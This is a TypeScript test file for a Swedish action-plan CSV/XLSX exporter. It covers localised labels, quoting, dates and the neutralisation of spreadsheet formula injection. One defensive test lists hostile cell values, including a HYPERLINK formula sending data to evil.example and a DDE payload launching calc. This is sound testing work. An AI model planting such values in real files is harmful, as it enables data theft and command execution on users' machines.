import ExcelJS from 'exceljs';
import type { ActionPlanView } from '../plans/action-plan.dto';
import { toCsv, toExportRow, toXlsx } from './action-plan-export';

const plan = {
  title: 'Inför "servicecenter"; steg 1',
  owner: { id: 'o', name: 'Åsa Öberg' },
  unit: 'Kommunledningskontoret',
  dueDate: '2027-03-31',
  status: 'in_progress',
  health: 'at_risk',
  progress: 40,
  latestComment: 'Upphandlingen är försenad\nny tidplan i april',
  findings: [
    { id: 'f1', evaluationId: 'e', areaNumber: 2, kind: 'weakness', text: 'Servicecenter eller liknande saknas' },
    { id: 'f2', evaluationId: 'e', areaNumber: 2, kind: 'improvement', text: 'Utveckling av e-tjänster' },
  ],
} as unknown as ActionPlanView;

describe('action plan export', () => {
  it('describes a plan in Swedish words', () => {
    expect(toExportRow(plan, 'sv')).toMatchObject({
      area: '2',
      finding: 'Svaghet: Servicecenter eller liknande saknas\nFörbättringsmöjlighet: Utveckling av e-tjänster',
      status: 'Pågår',
      health: 'Gul',
      progress: 40,
    });
  });

  it("describes a plan in English words for an English reader, keeping what people wrote as written", async () => {
    expect(toExportRow(plan, 'en')).toMatchObject({
      finding: 'Weakness: Servicecenter eller liknande saknas\nImprovement opportunity: Utveckling av e-tjänster',
      status: 'In progress',
      health: 'Amber',
    });
    const csv = toCsv([toExportRow(plan, 'en')], 'en').toString('utf8');
    expect(csv.startsWith('\uFEFFArea;Finding;Action plan;Owner;Unit;Due date;Status;Traffic light;Progress (%);Latest comment\r\n')).toBe(true);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx([toExportRow(plan, 'en')], 'en')) as unknown as ExcelJS.Buffer);
    const sheet = workbook.getWorksheet('Action plans')!;
    expect(sheet.getRow(1).getCell(4).value).toBe('Owner');
    expect(sheet.getRow(2).getCell(7).value).toBe('In progress');
  });

  it('writes CSV with a BOM, semicolons and quoted fields where needed', () => {
    const csv = toCsv([toExportRow(plan, 'sv')], 'sv').toString('utf8');
    expect(csv.startsWith('\uFEFFOmråde;Fynd;Åtgärd;Ansvarig;Enhet;Slutdatum;Status;Trafikljus;Framsteg (%);Senaste kommentar\r\n')).toBe(true);
    const [, row] = csv.split('\r\n');
    expect(row).toContain(';"Inför ""servicecenter""; steg 1";Åsa Öberg;Kommunledningskontoret;2027-03-31;Pågår;Gul;40;');
  });

  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'])(
    'neutralises a cell a spreadsheet would read as a formula: %j',
    (title) => {
      const csv = toCsv([toExportRow({ ...plan, title, latestComment: title }, 'sv')], 'sv').toString('utf8');
      const [, row] = csv.split('\r\n');
      const cells = row.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((cell) => cell.replace(/;$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));
      expect(cells[2]).toBe(`'${title}`);
      expect(cells[9]).toBe(`'${title}`);
    },
  );

  it('leaves numbers and ordinary text as they are', () => {
    const csv = toCsv([toExportRow({ ...plan, title: 'Minska sjukfrånvaron med 2 %', progress: 40 }, 'sv')], 'sv').toString('utf8');
    expect(csv).toContain(';Minska sjukfrånvaron med 2 %;');
    expect(csv).toContain(';40;');
  });

  it('writes a workbook with a frozen header and the due date as a date', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx([toExportRow(plan, 'sv')], 'sv')) as unknown as ExcelJS.Buffer);
    const sheet = workbook.getWorksheet('Åtgärder')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).getCell(3).value).toBe('Åtgärd');
    expect(sheet.getRow(2).getCell(3).value).toBe('Inför "servicecenter"; steg 1');
    expect(sheet.getRow(2).getCell(6).value).toEqual(new Date('2027-03-31T00:00:00Z'));
    expect(sheet.getRow(2).getCell(9).value).toBe(40);
  });
});
